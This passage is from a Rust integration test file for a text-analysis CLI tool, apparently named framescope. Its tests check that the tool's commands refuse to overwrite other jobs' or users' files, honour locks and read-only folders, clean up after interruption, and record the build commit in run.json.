    assert_eq!(code, 0, "{err}");
    let (code, err) = run(
        d,
        &[
            "run",
            "--seeds",
            "arts",
            "--alpha",
            "2",
            "--out",
            "r2",
            "--compare-to",
            "r",
        ],
    );
    assert_eq!(code, 0, "{err}");
    let (code, err) = run(d, &["diff", "r", "r2"]);
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("r2: `diff.csv` here is an output of the `run` job recorded in its run.json"),
        "{err}"
    );
    // Session 28: nor into another job's output folder (its report would open with a "What
    // changed" between two other runs), whether or not that job wrote a diff.csv.
    for (args, holder) in [
        (vec!["diff", "m.json", "m2.json", "--out", "r2"], "r2"),
        (vec!["diff", "m.json", "m2.json", "--out", "r"], "r"),
    ] {
        let before = tree(&d.join(holder));
        let (code, err) = run(d, &args);
        assert_eq!(code, 2, "{args:?}: {err}");
        assert!(
            err.contains(&format!(
                "{holder}: holds another job's outputs (run.json), which diff.csv would be mixed with"
            )),
            "{args:?}: {err}"
        );
        assert_eq!(tree(&d.join(holder)), before, "{args:?} changed the folder");
    }
    // Files move in together; another job's file in the folder is left alone; a file of
    // this job's set not written this time (the chart, with --no-chart) is removed.
    std::fs::write(d.join("o/notes.docx"), "mine").unwrap();
    let (code, err) = run(d, &["keyness", "--by", "weak", "--out", "o", "arts"]);
    assert_eq!(code, 0, "{err}");
    assert!(d.join("o/keyness.csv").exists() && d.join("o/keyness.png").exists());
    let csv = std::fs::read(d.join("o/keyness.csv")).unwrap();
    let (code, err) = run(d, &["keyness", "--by", "weak", "--no-chart", "--out", "o", "arts"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(std::fs::read(d.join("o/keyness.csv")).unwrap(), csv, "same table");
    assert!(
        !d.join("o/keyness.png").exists(),
        "the earlier run's chart is not left beside it"
    );
    let (code, err) = run(d, &["overlap", "--out", "o", "arts"]);
    assert_eq!(code, 0, "{err}");
    let (code, err) = run(d, &["lexicon", "--report", "o", "arts"]);
    assert_eq!(code, 0, "{err}");
    let (code, err) = run(d, &["diff", "m.json", "m2.json", "--out", "o"]);
    assert_eq!(code, 0, "{err}");
    let mut names: Vec<String> = std::fs::read_dir(d.join("o"))
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(
        names,
        [
            "diff.csv",
            "diff.run.json",
            "keyness.csv",
            "keyness.run.json",
            "lexicon.run.json",
            "lexicon_cooccurrence.csv",
            "lexicon_report.csv",
            "notes.docx",
            "overlap.csv",
            "overlap.run.json",
            "overlap_paragraphs.csv",
            "overlap_sentences.csv"
        ]
    );
    assert_eq!(std::fs::read_to_string(d.join("o/notes.docx")).unwrap(), "mine");
    assert!(leftovers(d).is_empty(), "{:?}", leftovers(d));
}

/// Review J, session 51: `keyness`, `overlap` and `lexicon --report` replaced a researcher's
/// own file of the same name (`keyness.csv` of their own analysis) with exit 0 and no backup.
/// A file of the job's set is replaced only when the job's record there lists it as written;
/// one framescope wrote but that was edited since is not replaced either.
#[test]
fn an_add_on_job_never_replaces_a_file_framescope_did_not_write() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    copy_seeds(&d.join("arts"));
    std::fs::create_dir(d.join("thesis")).unwrap();
    for (name, args) in [
        (
            "keyness.csv",
            vec!["keyness", "--by", "weak", "--out", "thesis", "arts"],
        ),
        ("overlap.csv", vec!["overlap", "--out", "thesis", "arts"]),
        ("lexicon_report.csv", vec!["lexicon", "--report", "thesis", "arts"]),
    ] {
        std::fs::write(d.join("thesis").join(name), "term,my_own_column\n").unwrap();
        let before = tree(&d.join("thesis"));
        let (code, err) = run(d, &args);
        assert_eq!(code, 2, "{args:?}: {err}");
        assert!(
            err.contains(&format!("{name}: framescope did not write this file")),
            "{args:?}: {err}"
        );
        assert_eq!(tree(&d.join("thesis")), before, "{args:?} changed the folder");
        std::fs::remove_file(d.join("thesis").join(name)).unwrap();
    }
    // Its own file, as written, is replaced; edited by hand, it is not.
    let (code, err) = run(d, &["keyness", "--by", "weak", "--out", "thesis", "arts"]);
    assert_eq!(code, 0, "{err}");
    let (code, err) = run(d, &["keyness", "--by", "weak", "--out", "thesis", "arts"]);
    assert_eq!(code, 0, "{err}");
    let mut edited = std::fs::read_to_string(d.join("thesis/keyness.csv")).unwrap();
    edited.push_str("my,note\n");
    std::fs::write(d.join("thesis/keyness.csv"), &edited).unwrap();
    let (code, err) = run(d, &["keyness", "--by", "weak", "--out", "thesis", "arts"]);
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("keyness.csv: this file changed since framescope wrote it"),
        "{err}"
    );
    assert_eq!(std::fs::read_to_string(d.join("thesis/keyness.csv")).unwrap(), edited);
}

/// Review findings (session 30): `chart` and `report` took no lock, so during a `run` into
/// their folder they wrote the old run's charts into the new run's folder; an output folder
/// named as an input had its tables read as articles.
#[test]
fn chart_and_report_wait_for_no_one_and_an_output_folder_is_no_corpus() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    copy_seeds(&d.join("arts"));
    assert_eq!(run(d, &["run", "--seeds", "arts", "--out", "r"]).0, 0);
    let before = common::tree(&d.join("r"));
    let held = framescope::report::Lock::acquire(&d.join("r")).unwrap();
    for args in [vec!["chart", "--out", "r"], vec!["report", "--out", "r"]] {
        let (code, err) = run(d, &args);
        assert_eq!(code, 2, "{args:?}: {err}");
        assert!(
            err.contains(&format!(
                "r: in use by another framescope job (pid {}",
                std::process::id()
            )),
            "{args:?}: {err}"
        );
    }
    drop(held);
    assert_eq!(before, common::tree(&d.join("r")), "nothing written while refused");
    assert_eq!(run(d, &["chart", "--out", "r"]).0, 0);
    // The output folder as the articles: one line naming it, the seeds still read.
    let (code, err) = run(d, &["run", "--seeds", "arts", "--out", "r2", "r"]);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("r: skipped: is a framescope output folder (it holds run.json), not a folder of articles"),
        "{err}"
    );
    assert_eq!(err.matches(": skipped:").count(), 1, "{err}");
    // Review J, session 51: one of its tables named, or reached through a link in an
    // articles folder, was read as articles (71 "articles" that were sentences) and the
    // folder then replaced under the link. Each is one skipped file.
    std::fs::create_dir(d.join("more")).unwrap();
    std::os::unix::fs::symlink("../r/sentences.csv", d.join("more/s.csv")).unwrap();
    std::fs::copy(
        d.join("arts").read_dir().unwrap().next().unwrap().unwrap().path(),
        d.join("more/a.txt"),
    )
    .unwrap();
    for (input, out) in [("more", "r"), ("r/scores.csv", "r4")] {
        let (code, err) = run(d, &["run", "--seeds", "arts", "--out", out, input]);
        assert_eq!(code, 1, "{input}: {err}");
        assert!(
            err.contains("skipped: is a file of the framescope output folder")
                && err.contains("its tables are not articles"),
            "{input}: {err}"
        );
        assert_eq!(err.matches(": skipped:").count(), 1, "{input}: {err}");
    }
}

/// Names in `d` starting with a dot: staging folders, temp files, locks.
fn hidden(d: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(d)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with('.'))
        .collect();
    v.sort();
    v
}

/// Send `signal` to a running job once `ready` exists in `d`; its (exit code, stderr).
fn interrupt_when(d: &Path, args: &[&str], ready: &str, signal: i32) -> (i32, String) {
    let child = std::process::Command::new(assert_cmd::cargo::cargo_bin("framescope"))
        .current_dir(d)
        .args(args)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let t = std::time::Instant::now();
    while !hidden(d).iter().any(|n| n.starts_with(ready)) && t.elapsed() < Duration::from_secs(60) {
        std::thread::sleep(Duration::from_millis(2));
    }
    std::thread::sleep(Duration::from_millis(50));
    // SAFETY: kill(2) on our own child's pid.
    assert_eq!(unsafe { libc::kill(child.id() as i32, signal) }, 0);
    let o = child.wait_with_output().unwrap();
    (
        o.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

/// Ctrl-C (or SIGTERM) during a job removes its staging folder, temp files and lock, leaves
/// the previous outputs as they were, and says so. Before, a hidden `.out.staging-<pid>`
/// stayed until the next job writing `out` (gigabytes at a million articles).
#[test]
fn an_interrupted_job_leaves_nothing_behind_and_the_old_outputs_whole() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let seeds = seeds_dir().display().to_string();
    let (code, err) = run(d, &["run", "--seeds", &seeds, "--out", "out", "--bootstrap", "0"]);
    assert_eq!(code, 0, "{err}");
    let before = tree(&d.join("out"));
    std::fs::write(d.join("big.jsonl"), corpus(1500)).unwrap();
    let args = ["run", "--seeds", &seeds, "--out", "out", "big.jsonl"];
    let (code, err) = interrupt_when(d, &args, ".out.staging-", libc::SIGINT);
    assert_eq!(code, 130, "stopped by the signal, not finished: {err}");
    assert!(
        err.lines()
            .any(|l| l == "framescope: interrupted; out left as it was (this job's unfinished outputs removed)"),
        "{err}"
    );
    assert_eq!(hidden(d), Vec::<String>::new(), "no staging folder, no lock left");
    assert_eq!(tree(&d.join("out")), before, "the previous outputs are untouched");
    assert!(backups(d, "out").is_empty(), "no backup made");
    // SIGTERM (a scheduler cancelling the job) likewise, for a model being trained.
    let args = ["train", "--model", "m.json", &seeds, "big.jsonl"];
    let (code, err) = interrupt_when(d, &args, ".m.json.lock", libc::SIGTERM);
    assert_eq!(code, 130, "{err}");
    assert!(err.contains("framescope: interrupted"), "{err}");
    assert_eq!(hidden(d), Vec::<String>::new(), "no temp file, no lock left");
    assert!(!d.join("m.json").exists());
}

/// A folder nobody may write to is refused, before any work, and left as it was (review,
/// session 48: it was replaced, and an identical rerun left it hidden beside the new one).
#[test]
fn a_read_only_output_folder_is_refused_and_left_alone() {
    use std::os::unix::fs::PermissionsExt;
    let d = tempfile::tempdir().unwrap();
    copy_seeds(&d.path().join("seeds"));
    let (code, err) = run(d.path(), &["run", "--seeds", "seeds", "--out", "o"]);
    assert_eq!(code, 0, "{err}");
    let before = tree(&d.path().join("o"));
    std::fs::set_permissions(d.path().join("o"), std::fs::Permissions::from_mode(0o555)).unwrap();
    let (code, err) = run(d.path(), &["run", "--seeds", "seeds", "--out", "o"]);
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("o: cannot use as output folder: it is read-only (mode 555)"),
        "{err}"
    );
    assert_eq!(err.trim().lines().count(), 1, "{err}");
    let mode = std::fs::metadata(d.path().join("o")).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o555);
    assert_eq!(tree(&d.path().join("o")), before);
    // Nothing beside it: no backup, no staging folder.
    let names: Vec<String> = std::fs::read_dir(d.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names.len(), 2, "{names:?}");
    std::fs::set_permissions(d.path().join("o"), std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// Review T, session 55: the commands that add files to a folder (keyness, lexicon
/// --report, overlap, export-training) wrote into a folder nobody may write to when run as
/// root, whose writes pass the permission bits; `run` refused it. They refuse it too.
#[test]
fn the_commands_that_add_files_leave_a_read_only_folder_alone() {
    use std::os::unix::fs::PermissionsExt;
    let d = tempfile::tempdir().unwrap();
    copy_seeds(&d.path().join("seeds"));
    std::fs::create_dir(d.path().join("ro")).unwrap();
    std::fs::write(d.path().join("ro/notes.txt"), "mine").unwrap();
    std::fs::set_permissions(d.path().join("ro"), std::fs::Permissions::from_mode(0o555)).unwrap();
    for args in [
        &["keyness", "--out", "ro", "seeds"][..],
        &["lexicon", "--report", "ro", "seeds"][..],
        &["overlap", "--out", "ro", "seeds"][..],
        &["export-training", "--out", "ro", "seeds"][..],
    ] {
        let (code, err) = run(d.path(), args);
        assert_eq!(code, 2, "{args:?}: {err}");
        assert!(
            err.contains("ro: cannot write into this folder: it is read-only (mode 555)"),
            "{args:?}: {err}"
        );
        let names: Vec<String> = std::fs::read_dir(d.path().join("ro"))
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        assert_eq!(names, ["notes.txt"], "{args:?}");
    }
    std::fs::set_permissions(d.path().join("ro"), std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// Review G, session 50: run.json said `tool_version` 0.1.0, the same for every commit, so
/// no figure could be traced to the build that produced it. Built in a git checkout, it
/// records the commit (with `-modified` when the tracked sources differed from it).
#[test]
fn run_json_records_the_commit_the_binary_was_built_from() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let head = std::process::Command::new("git")
        .current_dir(root)
        .args(["rev-parse", "HEAD"])
        .output()
        .ok()
        .filter(|o| o.status.success())
        .map(|o| String::from_utf8_lossy(&o.stdout).trim().to_string());
    let dir = tempfile::tempdir().unwrap();
    common::framescope(dir.path())
        .args(["run", "--seeds"])
        .arg(root.join("seeds"))
        .arg("--data")
        .arg(root.join("data"))
        .args(["--out", "o"])
        .assert()
        .success();
    let run: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("o/run.json")).unwrap()).unwrap();
    match head {
        Some(head) => {
            let build = run["tool_build"].as_str().unwrap_or_default();
            assert!(
                build == head || build == format!("{head}-modified"),
                "{build} against {head}"
            );
            let report = std::fs::read_to_string(dir.path().join("o/report.html")).unwrap();
            assert!(report.contains(&format!("(build {build})")));
        }
        None => assert!(run.get("tool_build").is_none(), "{run}"),
    }
}
